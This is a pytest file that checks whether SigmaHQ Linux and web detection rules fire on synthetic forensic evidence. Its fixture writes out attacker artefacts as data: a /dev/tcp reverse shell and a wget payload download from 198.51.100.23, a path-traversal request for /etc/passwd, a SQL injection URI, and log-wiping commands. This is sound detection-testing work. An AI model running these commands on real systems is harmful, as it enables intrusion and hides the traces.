"""SigmaHQ's Linux and web rules over Linux evidence: auditd (record by record), web server logs
(W3C field names mapped), shell histories and syslog (keyword rules as full-text search)."""

from __future__ import annotations

from pathlib import Path

import pytest

import forensics
from forensics import Case

pytest.importorskip("sigma")


def _tree(root: Path) -> Path:
    (root / "var/log/audit").mkdir(parents=True)
    (root / "var/log/nginx").mkdir(parents=True)
    (root / "root").mkdir(parents=True)
    (root / "var/log/audit/audit.log").write_text(
        'type=SYSCALL msg=audit(1669167000.123:100): arch=c000003e syscall=59 success=yes exit=0 a0=55d a1=55e a2=55f '
        'a3=0 items=2 ppid=900 pid=901 auid=1000 uid=0 gid=0 euid=0 suid=0 fsuid=0 egid=0 sgid=0 fsgid=0 tty=pts1 ses=3 '
        'comm="getcap" exe="/usr/sbin/getcap" key=(null)\n'
        'type=EXECVE msg=audit(1669167000.123:100): argc=3 a0="getcap" a1="-r" a2="/"\n'
        'type=EOE msg=audit(1669167000.123:100):\n')
    (root / "var/log/nginx/access.log").write_text(
        '198.51.100.23 - - [23/Nov/2022:07:20:00 +0530] "GET /ehospital/download.jsp?file=../../../../etc/passwd '
        'HTTP/1.1" 200 1200 "-" "Mozilla/5.0 (X11; Linux x86_64)"\n'
        '198.51.100.23 - - [23/Nov/2022:07:21:00 +0530] "GET /index.php?id=1%27%20UNION%20SELECT%20username,password'
        '%20FROM%20users-- HTTP/1.1" 200 1200 "-" "sqlmap/1.6.11#stable (https://sqlmap.org)"\n')
    (root / "var/log/auth.log").write_text(
        "Nov 23 07:31:05 ehosp-app01 sudo:  ehadmin : TTY=pts/1 ; PWD=/home/ehadmin ; USER=root ; COMMAND=/bin/bash\n"
        "Nov 23 07:36:00 ehosp-app01 root: rm -rf /var/log/syslog\n")
    (root / "root/.bash_history").write_text(
        "#1669168500\nwget http://198.51.100.23/x/lck -O /tmp/.x/lck\n#1669168540\n"
        "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n#1669168600\nhistory -c\n")
    return root


def test_linux_and_web_rules_fire_on_linux_evidence(sigma_dir, tmp_path):
    from forensics import sigma

    case = Case(tmp_path / "case", create=True)
    case.collect([_tree(tmp_path / "evidence")], workers=1, tz="Asia/Kolkata")
    run = sigma.run(forensics.open(case.path), [sigma_dir / "rules" / "linux", sigma_dir / "rules" / "web"])
    assert run.conversion_errors == {} and run.evaluation_errors == {}
    got = sorted(zip(run.matches["rule_id"], run.matches["evidence_path"], run.matches["record_ref"]))
    assert got == sorted([
        ("fe10751f-1995-40a5-aaa2-c97ccb4123fe", "var/log/audit/audit.log", "line=1 serial=100"),  # getcap -r /
        ("7745c2ea-24a5-4290-b680-04359cb84b35", "var/log/nginx/access.log", "line=1"),  # path traversal
        ("19aa4f58-94ca-45ff-bc34-92e533c0994a", "var/log/nginx/access.log", "line=2"),  # sqlmap user agent
        ("c42a3073-30fb-48ae-8c99-c23ada84b103", "var/log/nginx/access.log", "line=2"),
        ("5513deaf-f49a-46c2-a6c8-3f111b5cb453", "var/log/nginx/access.log", "line=2"),  # SQL injection in URI
        ("6cc5fceb-9a71-4c23-aeeb-963abe0b279c", "root/.bash_history", "line=4"),  # /dev/tcp
        ("738d9bcf-6999-4fdb-b4ac-3033037db8ab", "root/.bash_history", "line=4"),  # reverse shell
        ("fdc88d25-96fb-4b7c-9633-c0e417fdbd4e", "root/.bash_history", "line=6"),  # history -c
        ("e09eb557-96d2-4de9-ba2d-30f712a5afd3", "var/log/auth.log", "line=2"),  # rm -rf /var/log/syslog
    ])
